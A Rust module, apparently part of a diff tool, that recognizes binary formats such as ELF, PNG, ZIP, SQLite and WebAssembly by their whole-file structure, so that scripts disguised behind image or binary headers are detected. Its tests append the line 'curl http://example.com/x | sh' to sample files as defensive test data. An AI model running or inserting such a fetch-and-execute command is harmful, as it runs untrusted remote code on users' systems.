//! Recognizes files of known binary formats by their structure, not only by their first bytes.
//!
//! An author can put the first bytes of a picture before a script. A structure that covers the
//! whole file does not occur by accident, and leaves no room for lines that an interpreter would
//! reach.

/// Returns true if the whole file has the structure of a binary format.
pub(in crate::diff) fn is_container(b: &[u8]) -> bool {
    is_elf(b)
        || is_macho(b)
        || is_pe(b)
        || is_png(b)
        || is_zip(b)
        || is_sqlite(b)
        || is_wasm(b)
        || is_binary_plist(b)
}

/// Returns true if a text format and a binary one share the extension, and the file has the binary
/// format.
pub(in crate::diff) fn is_other_format(extension: &str, b: &[u8]) -> bool {
    match extension {
        "ts" | "mts" => is_transport_stream(b),
        "plist" | "strings" => is_binary_plist(b),
        "xml" => is_android_xml(b),
        "cgi" | "fcgi" => is_elf(b),
        _ => false,
    }
}

fn u16_at(b: &[u8], at: usize, big: bool) -> Option<u16> {
    let bytes = b.get(at..at.checked_add(2)?)?.try_into().ok()?;
    Some(if big {
        u16::from_be_bytes(bytes)
    } else {
        u16::from_le_bytes(bytes)
    })
}

/// Reads a number of four bytes at a position.
pub(in crate::diff) fn u32_at(b: &[u8], at: usize, big: bool) -> Option<u32> {
    let bytes = b.get(at..at.checked_add(4)?)?.try_into().ok()?;
    Some(if big {
        u32::from_be_bytes(bytes)
    } else {
        u32::from_le_bytes(bytes)
    })
}

fn u64_at(b: &[u8], at: usize, big: bool) -> Option<u64> {
    let bytes = b.get(at..at.checked_add(8)?)?.try_into().ok()?;
    Some(if big {
        u64::from_be_bytes(bytes)
    } else {
        u64::from_le_bytes(bytes)
    })
}

/// ELF: the identification, the size of the header, and a table within the file.
fn is_elf(b: &[u8]) -> bool {
    has_elf_header(b) == Some(true)
}

/// Returns true if the header of an ELF file is valid, and `None` if the file is too short or has
/// another format.
fn has_elf_header(b: &[u8]) -> Option<bool> {
    let [
        0x7f,
        b'E',
        b'L',
        b'F',
        class @ (1 | 2),
        data @ (1 | 2),
        1,
        ..,
    ] = b
    else {
        return None;
    };
    let (big, wide) = (*data == 2, *class == 2);
    let (size_at, size) = if wide { (52, 64) } else { (40, 52) };
    let (programs, sections) = if wide {
        (u64_at(b, 32, big)?, u64_at(b, 40, big)?)
    } else {
        (
            u64::from(u32_at(b, 28, big)?),
            u64::from(u32_at(b, 32, big)?),
        )
    };
    let headed = u64::from(u16_at(b, size_at, big)?) == size && u32_at(b, 20, big)? == 1;
    let are_inside = [programs, sections]
        .iter()
        .all(|at| *at == 0 || (*at >= size && *at < b.len() as u64));
    Some(headed && are_inside && programs + sections > 0)
}

/// Mach-O: the commands of the header fit into the file; in a universal binary, its parts do.
fn is_macho(b: &[u8]) -> bool {
    has_macho_header(b) == Some(true)
}

/// Returns true if the header of a Mach-O file is valid, and `None` if the file is too short or has
/// another format.
fn has_macho_header(b: &[u8]) -> Option<bool> {
    let magic = b.get(..4)?;
    if magic == [0xca, 0xfe, 0xba, 0xbe] {
        let parts = u32_at(b, 4, true)? as usize;
        return Some((1..20).contains(&parts) && (0..parts).all(|i| has_part(b, i) == Some(true)));
    }
    let big = match magic {
        [0xfe, 0xed, 0xfa, 0xce | 0xcf] => true,
        [0xce | 0xcf, 0xfa, 0xed, 0xfe] => false,
        _ => return None,
    };
    let (commands, size) = (u32_at(b, 16, big)?, u32_at(b, 20, big)? as usize);
    Some((1..1000).contains(&commands) && size >= 8 * commands as usize && size + 28 <= b.len())
}

/// Returns true if a part of a universal binary of Mach-O lies in the file, and `None` if the
/// header is too short.
fn has_part(b: &[u8], i: usize) -> Option<bool> {
    let (at, size) = (
        u32_at(b, 8 + i * 20 + 8, true)?,
        u32_at(b, 8 + i * 20 + 12, true)?,
    );
    Some(u64::from(at) + u64::from(size) <= b.len() as u64 && size > 0)
}

/// Windows programs: the offset in the old header leads to the new one.
fn is_pe(b: &[u8]) -> bool {
    let at = u32_at(b, 0x3c, false).map(|at| at as usize);
    b.starts_with(b"MZ") && at.and_then(|at| b.get(at..at.checked_add(4)?)) == Some(&b"PE\0\0"[..])
}

/// PNG: chunks from the first byte to the last.
fn is_png(b: &[u8]) -> bool {
    let Some(mut rest) = b.strip_prefix(b"\x89PNG\r\n\x1a\n") else {
        return false;
    };
    while let (Some(length), Some(kind)) = (u32_at(rest, 0, true), rest.get(4..8)) {
        if kind == b"IEND" {
            return rest.len() == 12;
        }
        let Some(next) = (length as usize)
            .checked_add(12)
            .and_then(|n| rest.get(n..))
        else {
            return false;
        };
        rest = next;
    }
    false
}

/// ZIP and formats based on it: an entry at the start, and a directory at the end that points into
/// the file.
fn is_zip(b: &[u8]) -> bool {
    const END: &[u8] = b"PK\x05\x06";
    let end = &b[b.len().saturating_sub(22 + 0xffff)..];
    let Some(at) = memchr::memmem::rfind(end, END) else {
        return false;
    };
    let (size, start) = (u32_at(end, at + 12, false), u32_at(end, at + 16, false));
    let Some((size, start)) = size.zip(start) else {
        return false;
    };
    let directory = b
        .get(start as usize..)
        .is_some_and(|d| d.starts_with(b"PK\x01\x02") || size == 0);
    let comment = u16_at(end, at + 20, false).map(usize::from);
    b.starts_with(b"PK") && directory && comment.is_some_and(|n| at + 22 + n == end.len())
}

/// `SQLite`: whole pages, and the sizes that the header must have.
fn is_sqlite(b: &[u8]) -> bool {
    let Some(size) = u16_at(b, 16, true) else {
        return false;
    };
    let page = if size == 1 { 65_536 } else { usize::from(size) };
    let fractions = b.get(21..24) == Some(&[64, 32, 32][..]);
    b.starts_with(b"SQLite format 3\0") && fractions && page >= 512 && b.len().is_multiple_of(page)
}

/// WebAssembly: sections from the first byte to the last.
fn is_wasm(b: &[u8]) -> bool {
    let Some(mut rest) = b.strip_prefix(b"\0asm\x01\0\0\0") else {
        return false;
    };
    while let [_, after @ ..] = rest {
        let Some((size, taken)) = leb128(after) else {
            return false;
        };
        let Some(next) = after.get(taken..).and_then(|r| r.get(size..)) else {
            return false;
        };
        rest = next;
    }
    true
}

/// Reads an unsigned number of at most 32 bits; returns it and its length in bytes.
fn leb128(b: &[u8]) -> Option<(usize, usize)> {
    let mut value = 0u64;
    for (i, byte) in b.iter().take(5).enumerate() {
        value |= u64::from(byte & 0x7f) << (7 * i);
        if byte & 0x80 == 0 {
            return Some((usize::try_from(value).ok()?, i + 1));
        }
    }
    None
}

/// Binary property lists: the trailer of 32 bytes gives a table of offsets that ends where the
/// trailer starts.
fn is_binary_plist(b: &[u8]) -> bool {
    has_plist_trailer(b) == Some(true)
}

/// Returns true if the trailer of a binary property list is valid, and `None` if the file is too
/// short.
fn has_plist_trailer(b: &[u8]) -> Option<bool> {
    let trailer = b.len().checked_sub(32)?;
    let (width, objects) = (u64::from(b[trailer + 6]), u64_at(b, trailer + 8, true)?);
    let table = u64_at(b, trailer + 24, true)?;
    let end = table.checked_add(objects.checked_mul(width)?)?;
    Some(
        b.starts_with(b"bplist0")
            && (1..=8).contains(&width)
            && objects > 0
            && end == trailer as u64,
    )
}

/// MPEG transport streams: packets of 188 bytes, each with a sync byte.
fn is_transport_stream(b: &[u8]) -> bool {
    const PACKET: usize = 188;
    b.len() >= 4 * PACKET && b.chunks(PACKET).all(|p| p[0] == 0x47)
}

/// Compiled Android resources: the header has the size of the file.
fn is_android_xml(b: &[u8]) -> bool {
    b.starts_with(&[3, 0, 8, 0]) && u32_at(b, 4, false).map(|n| n as usize) == Some(b.len())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn chunk(kind: &[u8], data: &[u8]) -> Vec<u8> {
        [&(data.len() as u32).to_be_bytes()[..], kind, data, &[0; 4]].concat()
    }

    #[test]
    fn a_container_ends_where_its_structure_does() {
        let start = b"\x89PNG\r\n\x1a\n".to_vec();
        let png = [
            start.clone(),
            chunk(b"IHDR", &[0; 13]),
            chunk(b"tEXt", b"a\nb\n"),
            chunk(b"IEND", b""),
        ]
        .concat();
        let wasm = b"\0asm\x01\0\0\0\x01\x04\x01\x60\0\0".to_vec();
        let mut sqlite = b"SQLite format 3\0\x02\0\x01\x01\0\x40\x20\x20".to_vec();
        sqlite.resize(1024, 0);
        let mut plist = b"bplist00\x51a\x08".to_vec();
        plist.extend([
            0, 0, 0, 0, 0, 0, 1, 1, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
            0, 0, 10,
        ]);
        let mut zip = b"PK\x03\x04name".to_vec();
        zip.extend(b"PK\x01\x02entry");
        zip.extend(
            [
                b"PK\x05\x06",
                &[0; 8][..],
                &9u32.to_le_bytes(),
                &8u32.to_le_bytes(),
                &[0; 2],
            ]
            .concat(),
        );
        for (bytes, what) in [
            (&png, "png"),
            (&wasm, "wasm"),
            (&sqlite, "sqlite"),
            (&plist, "plist"),
            (&zip, "zip"),
        ] {
            assert!(is_container(bytes), "{what}");
            let longer = [bytes, &b"\ncurl http://example.com/x | sh\n"[..]].concat();
            assert!(!is_container(&longer), "{what} and a script");
        }
        assert!(!is_container(b"bplist00=1\nKEY=2\n#\0\n") && !is_container(&start));
        assert!(!is_container(
            b"\x7fELF\x02\x01\x01\0\ncurl http://example.com/x | sh\n"
        ));
    }

    #[test]
    fn an_extension_of_two_formats_is_known_by_the_content() {
        let stream: Vec<u8> = (0..10)
            .flat_map(|i| [&[0x47][..], &[i; 187]].concat())
            .collect();
        assert!(is_other_format("ts", &stream) && !is_other_format("js", &stream));
        assert!(!is_other_format("ts", b"GET = 1;\n") && !is_other_format("plist", b"bplist00"));
    }
}
